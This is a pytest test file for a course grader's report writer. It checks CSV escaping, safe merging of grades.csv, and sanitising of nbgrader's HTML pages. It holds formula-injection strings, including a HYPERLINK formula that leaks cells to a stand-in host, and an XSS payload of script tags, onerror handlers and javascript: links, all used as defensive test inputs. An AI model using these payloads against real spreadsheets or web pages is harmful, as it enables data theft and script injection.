"""course_utils.grader.reports: any text can be written, a run merges into grades.csv, and a write
that fails leaves every file as it was. (The folder command end to end: test_gradefolder.py.)"""

import csv
import os
from pathlib import Path

import pytest

from course_utils.grader import lessonfile, reports
from course_utils.grader.grade import Outcome, Result

ROOT = Path(__file__).resolve().parents[2]
LESSON = lessonfile.load_lesson(ROOT / "tests" / "fixtures" / "99-fixture" / "99-fixture.ipynb")


def result(student, scores=(2, 2, 1), message="", notes=()):
    outcomes = {t.gid: Outcome(s, t.points, message if s < t.points else "")
                for t, s in zip(LESSON.tests, scores)}
    return Result(student, LESSON.name, outcomes, list(notes))


def rows(out: Path) -> list[list[str]]:
    with open(out / "grades.csv", encoding="utf-8", errors="surrogateescape", newline="") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("text, written", [
    ("plain", "plain"), ("tab\tand\nnewline", "tab\tand\nnewline"), ("bell\x07", "bell\\x07"),
    ("lone \udcff surrogate", "lone \\udcff surrogate"), ("c1 \x85", "c1 \\x85")])
def test_clean_makes_any_text_writable(text, written):
    assert reports.clean(text) == written
    reports.clean(text).encode("utf-8")


@pytest.mark.parametrize("name, written",
                         [("ada", "ada"), ("", "_"), ("..", "_.."), ("a/b", "a\\x2fb"),
                          ("tab\tname", "tab\\x09name"), (os.fsdecode(b"caf\xe9"), "caf\\xe9")])
def test_a_learners_name_is_written_safely(name, written):
    assert reports.clean_name(name) == written


def test_a_run_merges_into_grades_csv_and_replaces_only_its_learners(tmp_path):
    reports.write_reports([result("ada"), result("bob", (2, 0, 1), "x instead of 2x")],
                          LESSON, tmp_path)
    reports.write_reports([result("bob"), result("cy", (0, 0, 0), "missing")], LESSON, tmp_path)
    got = rows(tmp_path)
    assert got[0] == reports.header(LESSON)
    assert [(r[0], r[2]) for r in got[1:]] == [("ada", "5"), ("bob", "5"), ("cy", "0")]
    assert "fx_scale_test: missing" in got[3][-2]
    assert (tmp_path / "feedback" / "cy" / f"{LESSON.name}.html").is_file()


def test_a_failed_write_leaves_grades_csv_as_it_was(tmp_path, monkeypatch):
    reports.write_reports([result("ada")], LESSON, tmp_path)
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    real = os.replace
    calls = []

    def failing_replace(src, dst):
        calls.append(dst)
        if Path(dst).name == "grades.csv":
            raise OSError("disk full")
        return real(src, dst)

    monkeypatch.setattr(reports, "write_new",
                        lambda path, write: (_ for _ in ()).throw(OSError("disk full")))
    with pytest.raises(OSError):
        reports.write_reports([result("ada", (0, 0, 0), "wrong")], LESSON, tmp_path)
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before, (
        "a failed write changes nothing")
    monkeypatch.undo()
    monkeypatch.setattr(reports.os, "replace", failing_replace)
    with pytest.raises(OSError):
        reports.write_reports([result("ada", (0, 0, 0), "wrong")], LESSON, tmp_path)
    assert rows(tmp_path)[1][2] == "5"
    assert not [p for p in tmp_path.rglob("*.tmp")], "no temporary file is left behind"
    assert set(before) == {p for p in tmp_path.rglob("*") if p.is_file()}


def test_grades_of_another_lesson_are_never_mixed_in(tmp_path):
    (tmp_path / "grades.csv").write_text("student,lesson,score\nada,01-circuits,10\n")
    with pytest.raises(reports.BadInput, match="is not a grades.csv of 99-fixture"):
        reports.check_out(tmp_path, LESSON)
    (tmp_path / "grades.csv").unlink()
    (tmp_path / "feedback").write_text("not a folder")
    with pytest.raises(reports.BadInput, match="is not a folder"):
        reports.check_out(tmp_path, LESSON)


# ---------------------------------------------------------------------------------------------
# A learner's text is inert: no formula in grades.csv, no script in nbgrader's HTML pages

FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A3&B3,"see")', "=1+1", "+1+1", "-2+3",
            "@SUM(A1:A3)", "\t=1+1", "\r=1+1", "-", "'=1+1", "''"]
NUMBERS = ["-1.5", "+2", "0", "1e+06", "3.25", ".5"]


@pytest.mark.parametrize("text", [*FORMULAS, *NUMBERS, "plain", "'tis", "'", "", "a=b", " =1"])
def test_a_csv_cell_is_never_a_formula_and_reads_back_as_it_was(text):
    cell = reports.csv_cell(text)
    assert reports.cell_text(cell) == text, "reading a cell gives back what was written"
    if text in NUMBERS:
        assert cell == text, "a number stays a number"
    elif text[:1] in reports.FORMULA_START:
        assert cell == "'" + text, "a formula starts with a single quote (OWASP)"
    else:
        assert cell[:1] not in reports.FORMULA_START


def written_lesson():
    from dataclasses import replace
    return replace(LESSON, written=[lessonfile.Cell("written", "model answer", "fx_why", 2.0)])


def test_no_cell_of_grades_csv_is_a_formula_whatever_the_learner_wrote(tmp_path):
    """A submission named =1+1.ipynb, judges' messages and notes quoting a learner's values,
    review's flags and written answers that are formulas: every cell of grades.csv that a
    spreadsheet would run starts with a quote; scores stay numbers; a second run (which reads the
    file back and keeps its rows) quotes nothing twice; the text read back is the text written."""
    lesson = written_lesson()
    evil = [
        Result("=1+1", LESSON.name,
               {t.gid: Outcome(0, t.points, FORMULAS[0]) for t in LESSON.tests}, [],
               written={"fx_why": FORMULAS[0]}),
        Result("@ada", LESSON.name, {t.gid: Outcome(t.points, t.points, "") for t in LESSON.tests},
               ["=1+1 (a note)"], review=["-2+3 flagged"], written={"fx_why": "-1.5"}),
        Result("\tbob", LESSON.name,
               {t.gid: Outcome(t.points, t.points, "") for t in LESSON.tests}, [],
               written={"fx_why": "\t=1+1"}),
    ]
    reports.write_reports(evil, lesson, tmp_path)
    first = (tmp_path / "grades.csv").read_bytes()
    raw = rows(tmp_path)
    cells = [c for r in raw for c in r]
    assert not [c for c in cells
                if c[:1] in reports.FORMULA_START and not reports._NUMBER.match(c)], raw
    by_student = {r[0]: r for r in raw[1:]}
    assert set(by_student) == {"'=1+1", "'@ada", "\\x09bob"}, (
        "a learner's name is quoted (or escaped) as a cell")
    assert by_student["'=1+1"][-1] == "'" + FORMULAS[0], (
        "a written answer that is a formula is quoted")
    assert by_student["'@ada"][2:4] == ["5", "5"] and by_student["'@ada"][-1] == "-1.5", (
        "numbers stay numbers")
    assert by_student["'@ada"][-3:-1] == ["'=1+1 (a note)", "'-2+3 flagged"], (
        "notes and review's flags are quoted")
    assert by_student["\\x09bob"][-1] == "'\t=1+1"

    # a second run reads grades.csv back: the kept rows are written as they were, never quoted twice
    reports.write_reports([result("cy")], lesson, tmp_path)
    again = rows(tmp_path)
    assert [r for r in again if r[0] != "cy"] == raw
    # the same learners graded again replace their own rows
    reports.write_reports(evil, lesson, tmp_path)
    assert [r for r in rows(tmp_path) if r[0] != "cy"] == raw
    with open(tmp_path / "grades.csv", encoding="utf-8", newline="") as f:
        read = reports.read_csv(f)
    assert {r[0]: r[-1] for r in read[1:]} == {"=1+1": FORMULAS[0], "@ada": "-1.5",
                                               "\\x09bob": "\t=1+1",
                                               "cy": "(no answer cell in the submission)"}
    assert first  # (the first file is what the second run read)


def test_a_grades_csv_written_before_the_rule_is_read_and_quoted(tmp_path):
    lesson = written_lesson()
    header = reports.header(lesson)
    with open(tmp_path / "grades.csv", "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([header,
                                 ["=1+1", lesson.name, "5", "5", "2", "2", "1", "", "", "=2+2"]])
    reports.write_reports([result("ada")], lesson, tmp_path)
    assert rows(tmp_path)[1] == ["'=1+1", lesson.name, "5", "5", "2", "2", "1", "", "", "'=2+2"]
    reports.write_reports(
        [Result("=1+1", lesson.name, result("x").outcomes, [], written={"fx_why": "=3+3"})],
        lesson, tmp_path)
    assert [r[0] for r in rows(tmp_path)[1:]] == ["'=1+1", "ada"], (
        "the old row and the new are the same learner's")
    assert rows(tmp_path)[1][-1] == "'=3+3"


PAYLOAD = ("My answer: z does not depend on x.\n\n"
           "<img src=x onerror=\"document.title='pwned-img'\">"
           "<script>document.title='pwned-script'</script>"
           "<svg onload=\"document.title='pwned-svg'\"></svg>"
           "<a href=\"javascript:document.title='pwned-link'\">click</a> "
           "<a href=\"JaVaScRiPt&#x3a;document.title='pwned-link2'\">click</a> "
           "<iframe src=\"javascript:document.title='pwned-iframe'\"></iframe>"
           "<style>/*pwned*/body{display:none}</style>"
           "<form action=\"/api/terminals?pwned\" method=\"post\"><button>go</button></form>\n\n"
           "## A heading\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nx = y < 2\n```\n\n"
           "*emphasis*, `a<b`, [a link](https://pytorch.org), $x^2$, <kbd>Shift</kbd> and "
           "<span style=\"color:#d62728;position:fixed;"
           "background:url(javascript:alert(1))\">**red**</span>\n")


def nbgrader_html(template: str, config) -> str:
    """A notebook with PAYLOAD as a written answer and HTML and JavaScript outputs, as nbgrader's
    Formgrader (template formgrade) or `nbgrader generate_feedback` (feedback) render it with
    config."""
    import nbformat
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    import nbgrader
    templates = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
    nb = nbformat.v4.new_notebook()
    answer = nbformat.v4.new_markdown_cell(PAYLOAD)
    answer.metadata["nbgrader"] = {"solution": True, "grade": True, "grade_id": "fx_why",
                                   "points": 2, "score": 0, "locked": False, "schema_version": 3}
    code = nbformat.v4.new_code_cell("show()")
    code.outputs = [
        nbformat.v4.new_output("display_data", data={
            "text/html": "<img src=y onerror=\"document.title='pwned-out'\">"}),
        nbformat.v4.new_output("display_data", data={
            "application/javascript": "document.title='pwned-js'"})]
    nb.cells = [answer, code]
    c = Config(config)
    c.HTMLExporter.template_name = template
    c.HTMLExporter.extra_template_basedirs = [str(templates)]
    c.HTMLExporter.extra_template_paths = [
        str(templates.parent / "static" / "node_modules" / "bootstrap" / "dist" / "css")]
    resources = {"nbgrader": {"notebook": "n", "score": 0, "max_score": 2, "late_penalty": 0},
                 "base_url": "", "index": 0, "total": 1}
    return HTMLExporter(config=c).from_notebook_node(nb, resources=resources)[0]


@pytest.mark.parametrize("template", ["formgrade", "feedback"])
def test_nbgraders_pages_show_a_written_answer_as_text_with_the_courses_config(template):
    """nbgrader's own templates render a written answer's HTML as is (the attack); with the course's
    nbgrader_config.py no tag, attribute or address that runs script is left, and markdown still
    reads. (In a real browser: tests/browser/test_formgrader.py.)"""
    from traitlets.config import Config
    from traitlets.config.loader import PyFileConfigLoader

    bare = nbgrader_html(template, Config())
    assert "onerror=" in bare and "<script>document.title" in bare, (
        "nbgrader's templates as they come run the answer")
    assert live(nbgrader_html(template, Config({"HTMLExporter": {"sanitize_html": True}}))), \
        "nbconvert's sanitize_html alone leaves a written answer as it is: nbgrader's templates " \
        "render markdown cells without it (if this fails, nbgrader now sanitizes them itself)"
    html = nbgrader_html(template,
                         PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config())
    assert live(bare) and not live(html), f"left in {template}: {live(html)}"
    body = html[html.index("My answer"):]
    assert "&lt;script&gt;document.title='pwned-script'&lt;/script&gt;" in body, (
        "the script shows as text")
    assert "<img" not in body, "no image: it would fetch an address of the learner's choosing"
    for kept in ("<h2>A heading", "<em>emphasis</em>", "<code>a&lt;b</code>",
                 '<a href="https://pytorch.org">a link</a>',
                 '<th style="text-align:left;">a</th>', '<span class="o">', "<kbd>Shift</kbd>",
                 # $x^2$ as MathML (course_utils.grader.mathml)
                 '<msup><mi>x</mi><mn>2</mn></msup>',
                 '<span style="color:#d62728;"><strong>red</strong></span>'):
        assert kept in body, f"{kept!r} not in {template}"


def live(html: str) -> list[str]:
    """The payload's elements in html that could run or act: an element with an on* attribute, a
    script, svg, iframe, form, style, object or embed, or a javascript: address, holding "pwned"
    (the page's own scripts and handlers hold no such word)."""
    from bs4 import BeautifulSoup

    found = []
    for e in BeautifulSoup(html, "html.parser").find_all(True):
        attrs = {a.lower(): str(v) for a, v in e.attrs.items()}
        if "pwned" not in str(e):
            continue
        if (any(a.startswith("on") and "pwned" in v for a, v in attrs.items())
                or (e.name in ("script", "svg", "iframe", "form", "style", "object", "embed")
                    and "pwned" in str(e))
                or any("javascript:" in attrs.get(a, "").lower().replace(" ", "")
                       for a in ("href", "src", "action"))):
            found.append(str(e)[:80])
    return found


def test_an_error_is_said_in_one_line_with_its_type():
    assert reports.one_line(ValueError("two\n  lines\x1b[31m")) == "ValueError: two lines\\x1b[31m"
    assert reports.one_line(TimeoutError()) == "TimeoutError"
    assert reports.one_line(ValueError("x" * 50), 10) == "ValueError: " + "x" * 10
